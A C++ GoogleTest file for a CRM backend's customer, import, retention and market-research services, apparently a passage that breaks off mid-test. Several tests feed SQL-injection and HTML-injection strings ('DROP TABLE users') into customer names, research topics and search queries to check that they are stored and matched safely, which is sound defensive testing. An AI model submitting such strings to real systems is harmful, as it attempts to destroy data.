#include "domain/Error.h"
#include "services/customers/CustomerImport.h"
#include "services/customers/CustomerCareService.h"
#include "storage/customers/CustomerRepository.h"
#include "services/contracts/ContractExecutionService.h"
#include "support/ContractSamples.h"
#include "services/customers/CustomerService.h"
#include "services/customers/MarketResearchService.h"
#include "services/customers/RetentionService.h"
#include "services/entertainment/EntertainmentService.h"
#include "services/exchange/TableExport.h"
#include "services/policy/PolicyService.h"
#include "services/tasks/TaskSource.h"
#include "services/ModuleCatalog.h"
#include "storage/SqlQuery.h"
#include "support/ExpenseSamples.h"
#include "support/TestDatabase.h"

#include <QFile>
#include <QTemporaryDir>

#include <gtest/gtest.h>

using namespace bizdesk;
using bizdesk::testing::BackendTest;
using domain::Stage;

namespace {

class CustomerServiceTest : public BackendTest
{
protected:
    services::NewCustomer company(const QString &name)
    {
        services::NewCustomer input;
        input.name = name;
        input.customerClass = QStringLiteral("key"); // contact interval 30 days by default
        return input;
    }
    qint64 rows(const char *table)
    {
        return storage::SqlQuery(database(), QStringLiteral("SELECT count(*) FROM %1").arg(QLatin1String(table))).scalar().toLongLong();
    }
    static QString fixture(const char *name)
    {
        return QStringLiteral(BIZDESK_SOURCE_DIR "/tests/fixtures/customers/") + QLatin1String(name);
    }
};

} // namespace

TEST_P(CustomerServiceTest, adds_a_customer_owned_by_the_creator_with_audit_entry)
{
    services::CustomerService service(as(QStringLiteral("sales1")));
    const qint64 audits = rows("audit_log");
    auto input = company(QStringLiteral("x'); DROP TABLE users;-- <b>华信</b>"));
    input.phone = QStringLiteral("010-62345678");
    input.contactName = QStringLiteral("张伟");
    const domain::Customer customer = service.add(input);
    EXPECT_EQ(customer.name, input.name);
    EXPECT_EQ(customer.ownerId, organisation().id(QStringLiteral("sales1")));
    EXPECT_EQ(customer.stage, Stage::Lead);
    EXPECT_EQ(rows("audit_log"), audits + 1);
    EXPECT_EQ(service.details(customer.id).contacts.size(), 1);
}

TEST_P(CustomerServiceTest, bad_input_writes_nothing)
{
    services::CustomerService service(as(QStringLiteral("sales1")));
    auto input = company(QStringLiteral(" "));
    EXPECT_ERROR_KIND(service.add(input), Invalid);
    input = company(QStringLiteral("华信"));
    input.email = QStringLiteral("bad@");
    EXPECT_ERROR_KIND(service.add(input), Invalid);
    input = company(QStringLiteral("华信"));
    input.customerClass = QStringLiteral("vip");
    EXPECT_ERROR_KIND(service.add(input), Invalid);
    input = company(QStringLiteral("华信"));
    input.channel = QStringLiteral("tv");
    EXPECT_ERROR_KIND(service.add(input), Invalid);
    input = company(QStringLiteral("华信"));
    input.ownerLogin = QStringLiteral("sales2");
    EXPECT_ERROR_KIND(service.add(input), Denied);
    EXPECT_EQ(rows("customers"), 0);
}

TEST_P(CustomerServiceTest, duplicates_by_normalised_name_phone_or_email_are_refused_unless_allowed)
{
    services::CustomerService service(as(QStringLiteral("sales1")));
    auto first = company(QStringLiteral("Acme Trading Ltd"));
    first.phone = QStringLiteral("+86 138 0000 1111");
    first.email = QStringLiteral("Info@Acme.example");
    service.add(first);
    EXPECT_ERROR_KIND(service.add(company(QStringLiteral("ＡＣＭＥ  trading ltd"))), Conflict);
    auto samePhone = company(QStringLiteral("Other"));
    samePhone.phone = QStringLiteral("13800001111");
    EXPECT_ERROR_KIND(service.add(samePhone), Conflict);
    auto sameEmail = company(QStringLiteral("Other 2"));
    sameEmail.email = QStringLiteral("info@acme.example");
    EXPECT_ERROR_KIND(service.add(sameEmail), Conflict);
    EXPECT_NO_THROW(service.add(samePhone, true));
    EXPECT_EQ(rows("customers"), 2);
}

TEST_P(CustomerServiceTest, pipeline_records_each_step_and_refuses_skips)
{
    services::CustomerService service(as(QStringLiteral("sales1")));
    const auto customer = service.add(company(QStringLiteral("华信")));
    EXPECT_ERROR_KIND(service.changeStage(customer.id, Stage::Won, {}), Conflict);
    service.changeStage(customer.id, Stage::Contacted, {});
    EXPECT_ERROR_KIND(service.changeStage(customer.id, Stage::Lost, {}), Invalid);
    service.changeStage(customer.id, Stage::Lost, QStringLiteral("预算取消"));
    service.changeStage(customer.id, Stage::Lead, {});
    const auto details = service.details(customer.id);
    ASSERT_EQ(details.stageHistory.size(), 3);
    EXPECT_EQ(details.stageHistory.at(1).toState, QStringLiteral("lost"));
    EXPECT_EQ(details.stageHistory.at(1).comment, QStringLiteral("预算取消"));
    EXPECT_EQ(details.stageHistory.at(0).actorLogin, QStringLiteral("sales1"));
}

TEST_P(CustomerServiceTest, visibility_and_editing_follow_ownership)
{
    const auto own = services::CustomerService(as(QStringLiteral("sales1"))).add(company(QStringLiteral("一部客户")));
    const auto other = services::CustomerService(as(QStringLiteral("sales3"))).add(company(QStringLiteral("二部客户")));
    services::CustomerService sales2(as(QStringLiteral("sales2")));
    EXPECT_ERROR_KIND(sales2.details(own.id), Denied);
    EXPECT_ERROR_KIND(sales2.changeStage(own.id, Stage::Contacted, {}), Denied);
    EXPECT_EQ(sales2.list({}, 100).size(), 0);
    services::CustomerService manager1(as(QStringLiteral("manager1")));
    EXPECT_EQ(manager1.list({}, 100).size(), 1);
    EXPECT_ERROR_KIND(manager1.details(other.id), Denied);
    EXPECT_EQ(services::CustomerService(as(QStringLiteral("director"))).list({}, 100).size(), 2);
    EXPECT_ERROR_KIND(services::CustomerService(as(QStringLiteral("executive"))).changeStage(own.id, Stage::Contacted, {}), Denied);
}

TEST_P(CustomerServiceTest, pool_claim_assign_and_return)
{
    services::CustomerService manager(as(QStringLiteral("manager1")));
    auto pooled = company(QStringLiteral("公海客户"));
    pooled.ownerLogin = QStringLiteral("pool");
    const auto customer = manager.add(pooled);
    EXPECT_FALSE(customer.ownerId.has_value());
    services::CustomerService sales2(as(QStringLiteral("sales2")));
    EXPECT_EQ(sales2.list({}, 10).size(), 1); // everyone sees the pool
    EXPECT_ERROR_KIND(services::CustomerCareService(as(QStringLiteral("sales2"))).recordContact(customer.id, domain::ContactKind::Call, QStringLiteral("x"), {}, {}), Denied);
    EXPECT_EQ(sales2.claim(customer.id).ownerId, organisation().id(QStringLiteral("sales2")));
    EXPECT_ERROR_KIND(services::CustomerService(as(QStringLiteral("sales1"))).claim(customer.id), Conflict);
    EXPECT_ERROR_KIND(services::CustomerService(as(QStringLiteral("sales1"))).assign(customer.id, QStringLiteral("sales1")), Denied);
    EXPECT_EQ(manager.assign(customer.id, QStringLiteral("sales1")).ownerId, organisation().id(QStringLiteral("sales1")));
    EXPECT_ERROR_KIND(manager.assign(customer.id, QStringLiteral("sales3")), Denied);

    services::PolicyService(as(QStringLiteral("director"))).set(domain::policy::poolReturnDays, QStringLiteral("30"));
    m_clock.advanceSeconds(31 * 86400);
    EXPECT_EQ(services::CustomerService(as(QStringLiteral("manager1"))).returnUnfollowedToPool().returned, 1);
    EXPECT_FALSE(services::CustomerService(as(QStringLiteral("director"))).customer(customer.id).ownerId.has_value());
}

TEST_P(CustomerServiceTest, contact_log_needs_a_note_and_feeds_my_tasks)
{
    services::ModuleCatalog::registerAll();
    services::CustomerService service(as(QStringLiteral("sales1")));
    const auto customer = service.add(company(QStringLiteral("华信")));
    EXPECT_ERROR_KIND(services::CustomerCareService(as(QStringLiteral("sales1"))).recordContact(customer.id, domain::ContactKind::Visit, QStringLiteral("  "), {}, {}), Invalid);
    services::CustomerCareService(as(QStringLiteral("sales1"))).recordContact(customer.id, domain::ContactKind::Visit, QStringLiteral("上门拜访"), m_clock.nowUtc(),
                          m_clock.nowUtc().date().addDays(3));
    EXPECT_EQ(service.details(customer.id).customer.lastContactAt, m_clock.nowUtc());
    m_clock.advanceSeconds(4 * 86400);
    const auto tasks = services::TaskService::tasksFor(as(QStringLiteral("sales1")));
    ASSERT_FALSE(tasks.isEmpty());
    EXPECT_EQ(tasks.first().kind, QStringLiteral("follow_up"));
    EXPECT_TRUE(tasks.first().overdue);

    // A key customer (interval 30 by default) not contacted for 40 days is overdue.
    m_clock.advanceSeconds(40 * 86400);
    bool overdue = false;
    for (const auto &task : services::TaskService::tasksFor(as(QStringLiteral("sales1"))))
        overdue = overdue || (task.kind == QLatin1String("overdue_contact") && task.record.id == customer.id);
    EXPECT_TRUE(overdue);
}

TEST_P(CustomerServiceTest, complaints_move_to_resolved_with_notes_and_count_in_churn)
{
    services::CustomerService service(as(QStringLiteral("sales1")));
    const auto customer = service.add(company(QStringLiteral("华信")));
    const auto complaint = services::CustomerCareService(as(QStringLiteral("sales1"))).recordContact(customer.id, domain::ContactKind::Complaint, QStringLiteral("交付延期"), {}, {});
    EXPECT_EQ(complaint.complaintStatus, domain::ComplaintStatus::Open);
    m_clock.advanceSeconds(45 * 86400);
    const auto churn = services::RetentionService(as(QStringLiteral("sales1"))).churn(10);
    ASSERT_EQ(churn.size(), 1);
    EXPECT_TRUE(churn.first().assessment.reasons.join(QLatin1Char('|')).contains(QStringLiteral("open complaint")));
    EXPECT_TRUE(churn.first().assessment.reasons.first().startsWith(QStringLiteral("no contact for 45 days, interval 30")));
    EXPECT_ERROR_KIND(services::CustomerCareService(as(QStringLiteral("sales1"))).updateComplaint(complaint.id, domain::ComplaintStatus::Resolved, {}), Invalid);
    services::CustomerCareService(as(QStringLiteral("sales1"))).updateComplaint(complaint.id, domain::ComplaintStatus::InProgress, {});
    const auto resolved = services::CustomerCareService(as(QStringLiteral("sales1"))).updateComplaint(complaint.id, domain::ComplaintStatus::Resolved, QStringLiteral("补发货物"));
    EXPECT_EQ(resolved.resolvedAt, m_clock.nowUtc());
    EXPECT_ERROR_KIND(services::CustomerCareService(as(QStringLiteral("sales1"))).updateComplaint(complaint.id, domain::ComplaintStatus::Resolved, QStringLiteral("x")), Conflict);
    EXPECT_EQ(service.details(customer.id).openComplaints, 0);
}

TEST_P(CustomerServiceTest, substring_search_finds_chinese_latin_contacts_and_short_queries)
{
    services::CustomerService service(as(QStringLiteral("sales1")));
    auto a = company(QStringLiteral("北京华信软件有限公司"));
    a.contactName = QStringLiteral("欧阳娜娜");
    a.notes = QStringLiteral("关注100%数据安全_本地部署");
    service.add(a);
    auto b = company(QStringLiteral("Globex Corporation"));
    b.email = QStringLiteral("sales@globex.example");
    service.add(b);
    service.add(company(QStringLiteral("上海远航物流")));
    EXPECT_EQ(service.search(QStringLiteral("华信软件"), 10).size(), 1);
    EXPECT_EQ(service.search(QStringLiteral("欧阳娜"), 10).size(), 1);
    EXPECT_EQ(service.search(QStringLiteral("GLOBEX.EX"), 10).size(), 1);
    EXPECT_EQ(service.search(QStringLiteral("远"), 10).size(), 1);
    EXPECT_EQ(service.search(QStringLiteral("公司"), 10).size(), 1);
    EXPECT_EQ(service.search(QStringLiteral("100%"), 10).size(), 1);
    EXPECT_EQ(service.search(QStringLiteral("%"), 10).size(), 1);
    EXPECT_EQ(service.search(QStringLiteral("_本地"), 10).size(), 1);
    EXPECT_EQ(service.search(QStringLiteral("\"'); DROP"), 10).size(), 0);
    EXPECT_EQ(service.search(QStringLiteral("不存在的"), 10).size(), 0);
}

TEST_P(CustomerServiceTest, list_sorts_filters_and_pages_in_sql)
{
    services::CustomerService service(as(QStringLiteral("director")));
    for (int i = 0; i < 30; ++i) {
        auto input = company(QStringLiteral("客户%1").arg(i, 2, 10, QLatin1Char('0')));
        input.customerClass = i % 3 == 0 ? QStringLiteral("key") : QStringLiteral("general");
        service.add(input);
    }
    domain::CustomerQuery query;
    query.customerClass = domain::CustomerClass::Key;
    EXPECT_EQ(service.count(query), 10);
    storage::CustomerRepository repository(database());
    query.scope = service.scope();
    const auto first = repository.page(query, 0, 4);
    ASSERT_EQ(first.size(), 4);
    const auto next = repository.pageAfter(query, first.last().sortKey, first.last().customer.id, 4);
    const auto byOffset = repository.page(query, 4, 4);
    ASSERT_EQ(next.size(), byOffset.size());
    for (int i = 0; i < next.size(); ++i)
        EXPECT_EQ(next.at(i).customer.id, byOffset.at(i).customer.id);
    EXPECT_EQ(next.first().customer.name, QStringLiteral("客户12"));
    query.descending = true;
    EXPECT_EQ(repository.page(query, 0, 1).first().customer.name, QStringLiteral("客户27"));
}

TEST_P(CustomerServiceTest, imports_gbk_excel_csv_and_rejects_bad_rows_by_line)
{
    services::CustomerImport import(as(QStringLiteral("sales1")));
    const auto gbk = services::CustomerImport::read(fixture("gbk-excel.csv"));
    EXPECT_EQ(gbk.encoding, QStringLiteral("gb18030"));
    auto report = import.run(gbk, services::CustomerImport::guessMapping(gbk.headers), false);
    EXPECT_EQ(report.imported, 3);
    EXPECT_TRUE(report.rejected.isEmpty());

    const auto tw = services::CustomerImport::read(fixture("utf8-bom-zh_TW.csv"));
    EXPECT_EQ(tw.encoding, QStringLiteral("utf-8"));
    ASSERT_EQ(tw.rows.size(), 6);
    EXPECT_EQ(tw.rows.first().at(8), QStringLiteral("第一行\n第二行，含\"引號\""));
    report = import.run(tw, services::CustomerImport::guessMapping(tw.headers), false);
    EXPECT_EQ(report.imported, 2);
    ASSERT_EQ(report.rejected.size(), 4);
    EXPECT_EQ(report.rejected.at(0).line, 4);
    EXPECT_TRUE(report.rejected.at(0).error.contains(QStringLiteral("name")));
    EXPECT_EQ(report.rejected.at(1).line, 5);
    EXPECT_TRUE(report.rejected.at(1).error.contains(QStringLiteral("e-mail")));
    EXPECT_EQ(report.rejected.at(2).line, 6);
    EXPECT_EQ(report.rejected.at(3).line, 7);
    EXPECT_TRUE(report.rejected.at(3).error.contains(QStringLiteral("duplicate")));

    const auto en = services::CustomerImport::read(fixture("english-lf.csv"));
    report = import.run(en, services::CustomerImport::guessMapping(en.headers), false);
    EXPECT_EQ(report.imported, 1);
    ASSERT_EQ(report.rejected.size(), 1);
    EXPECT_EQ(report.rejected.first().line, 3); // Globex: same phone as 上海远航
    EXPECT_EQ(rows("customers"), 6);
}

TEST_P(CustomerServiceTest, dry_run_and_cancel_write_nothing)
{
    services::CustomerImport import(as(QStringLiteral("sales1")));
    const auto gbk = services::CustomerImport::read(fixture("gbk-excel.csv"));
    const auto mapping = services::CustomerImport::guessMapping(gbk.headers);
    const qint64 audits = rows("audit_log");
    EXPECT_EQ(import.run(gbk, mapping, true).imported, 3);
    EXPECT_EQ(rows("customers"), 0);
    EXPECT_ERROR_KIND(import.run(gbk, mapping, false, [](int, int) { return false; }), Conflict);
    EXPECT_EQ(rows("customers"), 0);
    EXPECT_EQ(rows("audit_log"), audits);
}

TEST_P(CustomerServiceTest, unreadable_files_are_refused_with_a_reason)
{
    EXPECT_ERROR_KIND(services::CustomerImport::read(fixture("truncated.csv")), Invalid);
    EXPECT_ERROR_KIND(services::CustomerImport::read(fixture("not-a-csv.csv")), Invalid);
    EXPECT_ERROR_KIND(services::CustomerImport::read(fixture("missing.csv")), NotFound);
    QFile broken(m_scratch->pathFor(QStringLiteral("broken.xlsx")));
    ASSERT_TRUE(broken.open(QIODevice::WriteOnly));
    broken.write("PK\x03\x04 this is not really a zip");
    broken.close();
    EXPECT_ERROR_KIND(services::CustomerImport::read(broken.fileName()), Invalid);
    try {
        services::CustomerImport::read(fixture("truncated.csv"));
    } catch (const domain::Error &error) {
        EXPECT_TRUE(error.message().contains(QStringLiteral("line 2"))) << error.message().toStdString();
    }
}

TEST_P(CustomerServiceTest, export_then_import_xlsx_round_trip)
{
    services::CustomerService service(as(QStringLiteral("sales1")));
    auto input = company(QStringLiteral("北京华信软件有限公司"));
    input.phone = QStringLiteral("13800001111");
    input.notes = QStringLiteral("多行\n备注, 含逗号");
    service.add(input);
    const QString xlsx = m_scratch->pathFor(QStringLiteral("customers.xlsx"));
    const QString csv = m_scratch->pathFor(QStringLiteral("customers.csv"));
    EXPECT_EQ(service.exportTo({}, xlsx), 1);
    EXPECT_EQ(service.exportTo({}, csv), 1);
    const auto fromXlsx = services::CustomerImport::read(xlsx);
    EXPECT_EQ(fromXlsx.encoding, QStringLiteral("xlsx"));
    ASSERT_EQ(fromXlsx.rows.size(), 1);
    const auto mapping = services::CustomerImport::guessMapping(fromXlsx.headers);
    EXPECT_EQ(fromXlsx.rows.first().at(mapping.indexOf(QStringLiteral("name"))), input.name);
    EXPECT_EQ(fromXlsx.rows.first().at(mapping.indexOf(QStringLiteral("notes"))), input.notes);
    const auto fromCsv = services::CustomerImport::read(csv);
    EXPECT_EQ(fromCsv.rows.first().at(services::CustomerImport::guessMapping(fromCsv.headers).indexOf(QStringLiteral("notes"))), input.notes);
    // Importing its own export again: every row is a duplicate.
    const auto report = services::CustomerImport(as(QStringLiteral("sales1"))).run(fromXlsx, mapping, false);
    EXPECT_EQ(report.imported, 0);
    EXPECT_EQ(report.rejected.size(), 1);
}

TEST_P(CustomerServiceTest, churn_counts_overdue_payments_and_contracts_ending_without_renewal)
{
    const auto customer = services::CustomerService(as(QStringLiteral("sales1"))).add(company(QStringLiteral("华信")));
    services::CustomerCareService(as(QStringLiteral("sales1"))).recordContact(customer.id, domain::ContactKind::Visit, QStringLiteral("拜访"), {}, {});
    const auto reasonsOf = [this](domain::CustomerId id) {
        for (const auto &entry : services::RetentionService(as(QStringLiteral("sales1"))).churn(10)) {
            if (entry.row.customer.id == id)
                return entry.assessment.reasons.join(QLatin1Char('|'));
        }
        return QString();
    };
    EXPECT_TRUE(reasonsOf(customer.id).isEmpty()) << "contacted today, no contract: not at risk";
    const QDate today = m_clock.nowUtc().date();
    // The sample contract runs for a year from 2026-11-01: with a notice period of a year it ends "soon".
    services::PolicyService(as(QStringLiteral("director"))).set(domain::policy::contractRenewalNoticeDays, QStringLiteral("365"));
    const auto contract = bizdesk::testing::effectiveContract([this](const QString &login) -> services::Session & { return as(login); },
                                                              customer.id, QStringLiteral("100000"), today);
    const qint64 installment = services::ContractExecutionService(as(QStringLiteral("manager1")))
                                   .addReceivable(contract.id, today.addDays(-40), QStringLiteral("50000"));
    const QString reasons = reasonsOf(customer.id);
    EXPECT_TRUE(reasons.contains(QStringLiteral("payment overdue for 40 day"))) << reasons.toStdString();
    EXPECT_TRUE(reasons.contains(QStringLiteral("ending soon without renewal"))) << reasons.toStdString();
    services::ContractExecutionService(as(QStringLiteral("finance")))
        .recordPayment(contract.id, today, QStringLiteral("50000"), installment, QStringLiteral("银行转账"));
    EXPECT_FALSE(reasonsOf(customer.id).contains(QStringLiteral("payment overdue"))) << "paid in full";
}

TEST_P(CustomerServiceTest, win_back_records_cause_measures_and_result_with_success_rate)
{
    services::CustomerService service(as(QStringLiteral("sales1")));
    const auto customer = service.add(company(QStringLiteral("华信")));
    EXPECT_ERROR_KIND(services::RetentionService(as(QStringLiteral("sales1"))).recordWinBack(customer.id, QStringLiteral(" "), QStringLiteral("折扣")), Invalid);
    EXPECT_ERROR_KIND(services::RetentionService(as(QStringLiteral("sales2"))).recordWinBack(customer.id, QStringLiteral("x"), QStringLiteral("y")), Denied);
    EXPECT_EQ(services::RetentionService(as(QStringLiteral("sales1"))).winBackSuccessRate(), -1.0);
    const qint64 first = services::RetentionService(as(QStringLiteral("sales1"))).recordWinBack(customer.id, QStringLiteral("竞争对手降价"), QStringLiteral("九折优惠，每周回访"));
    const qint64 second = services::RetentionService(as(QStringLiteral("sales1"))).recordWinBack(customer.id, QStringLiteral("服务响应慢"), QStringLiteral("指定专人服务"));
    EXPECT_EQ(services::RetentionService(as(QStringLiteral("sales1"))).winBackResult(first, true, QStringLiteral("续签")).result, domain::WinBackResult::WonBack);
    EXPECT_ERROR_KIND(services::RetentionService(as(QStringLiteral("sales1"))).winBackResult(first, false, {}), Conflict);
    services::RetentionService(as(QStringLiteral("sales1"))).winBackResult(second, false, {});
    EXPECT_DOUBLE_EQ(services::RetentionService(as(QStringLiteral("sales1"))).winBackSuccessRate(), 0.5);
    EXPECT_EQ(services::RetentionService(as(QStringLiteral("sales1"))).winBacks(customer.id).size(), 2);
    EXPECT_EQ(services::RetentionService(as(QStringLiteral("sales3"))).winBacks().size(), 0);
}

TEST_P(CustomerServiceTest, customer_events_invite_visible_customers_once)
{
    services::CustomerService service(as(QStringLiteral("sales1")));
    const auto customer = service.add(company(QStringLiteral("华信")));
    EXPECT_ERROR_KIND(services::CustomerCareService(as(QStringLiteral("sales1"))).addEvent(QStringLiteral("party"), QStringLiteral("x"), QDate(2026, 12, 20), {}, {}), Invalid);
    EXPECT_ERROR_KIND(services::CustomerCareService(as(QStringLiteral("sales1"))).addEvent(QStringLiteral("training"), QStringLiteral(" "), QDate(2026, 12, 20), {}, {}), Invalid);
    const qint64 event = services::CustomerCareService(as(QStringLiteral("sales1"))).addEvent(QStringLiteral("appreciation"), QStringLiteral("年终客户答谢会"), QDate(2026, 12, 20),
                                          QStringLiteral("国际会议中心"), {});
    services::CustomerCareService(as(QStringLiteral("sales1"))).invite(event, customer.id);
    EXPECT_ERROR_KIND(services::CustomerCareService(as(QStringLiteral("sales1"))).invite(event, customer.id), Conflict);
    EXPECT_ERROR_KIND(services::CustomerCareService(as(QStringLiteral("sales2"))).invite(event, customer.id), Denied);
    EXPECT_ERROR_KIND(services::CustomerCareService(as(QStringLiteral("sales1"))).invite(event + 100, customer.id), NotFound);
    const auto events = services::CustomerCareService(as(QStringLiteral("sales1"))).events(customer.id);
    ASSERT_EQ(events.size(), 1);
    EXPECT_EQ(events.first().invited, QStringList{QStringLiteral("华信")});
}

TEST_P(CustomerServiceTest, market_research_is_recorded_validated_and_audited)
{
    services::CustomerService service(as(QStringLiteral("sales1")));
    const qint64 audits = rows("audit_log");
    EXPECT_ERROR_KIND(services::MarketResearchService(as(QStringLiteral("sales1"))).addResearch(QStringLiteral("  "), QDate(2026, 11, 2), {}, {}), Invalid);
    EXPECT_ERROR_KIND(services::MarketResearchService(as(QStringLiteral("sales1"))).addResearch(QStringLiteral("华南制造业"), QDate(), {}, {}), Invalid);
    EXPECT_ERROR_KIND(services::MarketResearchService(as(QStringLiteral("finance"))).addResearch(QStringLiteral("x"), QDate(2026, 11, 2), {}, {}), Denied);
    EXPECT_EQ(rows("market_research"), 0);
    EXPECT_EQ(rows("audit_log"), audits);
    const QString topic = QStringLiteral("x'); DROP TABLE users;-- <b>华南制造业 ERP 需求</b>");
    const qint64 id = services::MarketResearchService(as(QStringLiteral("sales1"))).addResearch(QStringLiteral("  ") + topic, QDate(2026, 11, 2), QStringLiteral("中型工厂普遍缺少\n排产系统"),
                                          QStringLiteral("用友, 金蝶"));
    EXPECT_GT(id, 0);
    EXPECT_EQ(rows("audit_log"), audits + 1);
    const auto research = services::MarketResearchService(as(QStringLiteral("sales3"))).research();
    ASSERT_EQ(research.size(), 1);
    EXPECT_EQ(research.first().topic, topic);
    EXPECT_EQ(research.first().date, QDate(2026, 11, 2));
    EXPECT_EQ(research.first().competitors, QStringLiteral("用友, 金蝶"));
}

TEST_P(CustomerServiceTest, target_segments_are_defined_and_customers_link_to_one)
{
    services::CustomerService service(as(QStringLiteral("sales1")));
    EXPECT_ERROR_KIND(services::MarketResearchService(as(QStringLiteral("sales1"))).addSegment(QStringLiteral(" "), {}, {}), Invalid);
    EXPECT_ERROR_KIND(services::MarketResearchService(as(QStringLiteral("finance"))).addSegment(QStringLiteral("x"), {}, {}), Denied);
    EXPECT_EQ(rows("customer_segments"), 0);
    const qint64 segment = services::MarketResearchService(as(QStringLiteral("sales1"))).addSegment(QStringLiteral("中型制造企业"), QStringLiteral("200–1000 人"), QStringLiteral("行业展会 + 标杆案例"));
    EXPECT_EQ(services::MarketResearchService(as(QStringLiteral("sales1"))).segmentId(QStringLiteral(" 中型制造企业 ")), segment);
    EXPECT_ERROR_KIND(services::MarketResearchService(as(QStringLiteral("sales1"))).addSegment(QStringLiteral(" 中型制造企业"), {}, {}), Conflict);
    EXPECT_EQ(rows("customer_segments"), 1);
    EXPECT_ERROR_KIND(services::MarketResearchService(as(QStringLiteral("sales1"))).segmentId(QStringLiteral("不存在")), NotFound);

    auto input = company(QStringLiteral("华信"));
    input.segment = QStringLiteral("不存在");
    EXPECT_ERROR_KIND(service.add(input), NotFound);
    input.segment = QStringLiteral("中型制造企业");
    const auto customer = service.add(input);
    EXPECT_EQ(customer.segmentId, segment);
    EXPECT_EQ(service.details(customer.id).segmentName, QStringLiteral("中型制造企业"));
    auto segments = services::MarketResearchService(as(QStringLiteral("sales1"))).segments();
    ASSERT_EQ(segments.size(), 1);
    EXPECT_EQ(segments.first().customers, 1);
    EXPECT_EQ(segments.first().strategy, QStringLiteral("行业展会 + 标杆案例"));

    // Editing moves the customer out of the segment again.
    domain::Customer edited = service.customer(customer.id);
    edited.segmentId = std::nullopt;
    service.update(edited);
    EXPECT_TRUE(service.details(customer.id).segmentName.isEmpty());
    EXPECT_EQ(services::MarketResearchService(as(QStringLiteral("sales1"))).segments().first().customers, 0);
}

TEST_P(CustomerServiceTest, managers_reassign_and_owners_release_to_the_pool)
{
    const auto customer = services::CustomerService(as(QStringLiteral("sales1"))).add(company(QStringLiteral("华信")));
    EXPECT_ERROR_KIND(services::CustomerService(as(QStringLiteral("sales1"))).assign(customer.id, QStringLiteral("sales2")), Denied);
    EXPECT_ERROR_KIND(services::CustomerService(as(QStringLiteral("manager1"))).assign(customer.id, QStringLiteral("sales3")), Denied);
    services::CustomerService manager(as(QStringLiteral("manager1")));
    EXPECT_EQ(manager.assign(customer.id, QStringLiteral("sales2")).ownerId, organisation().id(QStringLiteral("sales2")));
    EXPECT_ERROR_KIND(services::CustomerService(as(QStringLiteral("sales1"))).release(customer.id), Denied);
    EXPECT_FALSE(manager.release(customer.id).ownerId.has_value());
    EXPECT_ERROR_KIND(manager.release(customer.id), Conflict);
}

TEST_P(CustomerServiceTest, business_dealings_list_the_customers_entertainment_requests)
{
    const auto customer = services::CustomerService(as(QStringLiteral("sales1"))).add(company(QStringLiteral("华信")));
    const auto other = services::CustomerService(as(QStringLiteral("sales1"))).add(company(QStringLiteral("远大")));
    services::EntertainmentService entertainment(as(QStringLiteral("sales1")));
    auto form = bizdesk::testing::sampleExpenseForm();
    form.customerId = customer.id;
    const auto request = entertainment.apply(form);
    form.customerId = other.id;
    entertainment.apply(form);
    services::ExpenseQuery query;
    query.customer = customer.id;
    const auto rows = entertainment.list(query);
    ASSERT_EQ(rows.size(), 1);
    EXPECT_EQ(rows.first().request.id, request.id);
    EXPECT_EQ(rows.first().customerName, QStringLiteral("华信"));
}

// Issue 9 "rules live in widgets": one owner rule (§3.2.1) for add, assign and import.
TEST_P(CustomerServiceTest, eligible_owners_follow_the_actors_reach)
{
    const auto logins = [](const services::OwnerChoices &choices) {
        QStringList list;
        for (const auto &user : choices.people)
            list << user.login;
        list.sort();
        return list;
    };
    const auto manager = services::CustomerService(as(QStringLiteral("manager1"))).eligibleOwners();
    EXPECT_EQ(logins(manager), (QStringList{QStringLiteral("manager1"), QStringLiteral("sales1"), QStringLiteral("sales2")}));
    EXPECT_EQ(manager.people.first().login, QStringLiteral("manager1")); // the acting user first
    EXPECT_TRUE(manager.pool);
    const auto specialist = services::CustomerService(as(QStringLiteral("sales1"))).eligibleOwners();
    EXPECT_EQ(logins(specialist), QStringList{QStringLiteral("sales1")});
    EXPECT_FALSE(specialist.pool);
    const auto director = services::CustomerService(as(QStringLiteral("director"))).eligibleOwners();
    EXPECT_TRUE(logins(director).contains(QStringLiteral("sales3")));
    EXPECT_TRUE(logins(director).contains(QStringLiteral("manager2")));
    EXPECT_FALSE(logins(director).contains(QStringLiteral("finance"))); // does not work with customers
    EXPECT_FALSE(logins(director).contains(QStringLiteral("executive")));

    storage::SqlQuery(database(), QStringLiteral("UPDATE users SET active = 0 WHERE login = 'sales2'")).exec();
    EXPECT_FALSE(logins(services::CustomerService(as(QStringLiteral("manager1"))).eligibleOwners()).contains(QStringLiteral("sales2")));
}

TEST_P(CustomerServiceTest, a_manager_cannot_add_for_another_departments_specialist_exactly_like_assign)
{
    services::CustomerService manager(as(QStringLiteral("manager1")));
    auto input = company(QStringLiteral("二部的客户"));
    input.ownerLogin = QStringLiteral("sales3");
    QString addRefusal;
    try {
        manager.add(input);
        ADD_FAILURE() << "a manager added a customer for another department";
    } catch (const domain::Error &error) {
        EXPECT_EQ(error.kind(), domain::ErrorKind::Denied);
        addRefusal = error.message();
    }
    const auto own = manager.add(company(QStringLiteral("一部的客户")));
    QString assignRefusal;
    try {
        manager.assign(own.id, QStringLiteral("sales3"));
        ADD_FAILURE() << "a manager assigned a customer to another department";
    } catch (const domain::Error &error) {
        EXPECT_EQ(error.kind(), domain::ErrorKind::Denied);
        assignRefusal = error.message();
    }
    EXPECT_EQ(addRefusal, assignRefusal);
    input.ownerLogin = QStringLiteral("finance");
    EXPECT_ERROR_KIND(manager.add(input), Invalid);
    EXPECT_ERROR_KIND(manager.assign(own.id, QStringLiteral("finance")), Invalid);
    input.ownerLogin = QStringLiteral("sales2");
    EXPECT_EQ(manager.add(input).ownerId, organisation().id(QStringLiteral("sales2")));
    // The director reaches every department.
    auto forSales3 = company(QStringLiteral("总监分配的客户"));
    forSales3.ownerLogin = QStringLiteral("sales3");
    EXPECT_EQ(services::CustomerService(as(QStringLiteral("director"))).add(forSales3).ownerId, organisation().id(QStringLiteral("sales3")));

    // An import applies the same rule per row.
    services::ImportTable table;
    table.headers = QStringList{QStringLiteral("客户名称"), QStringLiteral("负责人")};
    table.rows = {QStringList{QStringLiteral("导入一部"), QStringLiteral("sales1")}, QStringList{QStringLiteral("导入二部"), QStringLiteral("sales3")}};
    table.lines = {2, 3};
    const auto report = services::CustomerImport(as(QStringLiteral("manager1"))).run(table, services::CustomerImport::guessMapping(table.headers), false);
    EXPECT_EQ(report.imported, 1);
    ASSERT_EQ(report.rejected.size(), 1);
    EXPECT_EQ(report.rejected.first().line, 3);
    EXPECT_EQ(report.rejected.first().error, addRefusal);
}

// Issue 8 §4 "refused adds that write": every check comes before the first write.
TEST_P(CustomerServiceTest, a_refused_add_leaves_no_customer_and_no_audit_entry)
{
    const auto auditRows = [this] {
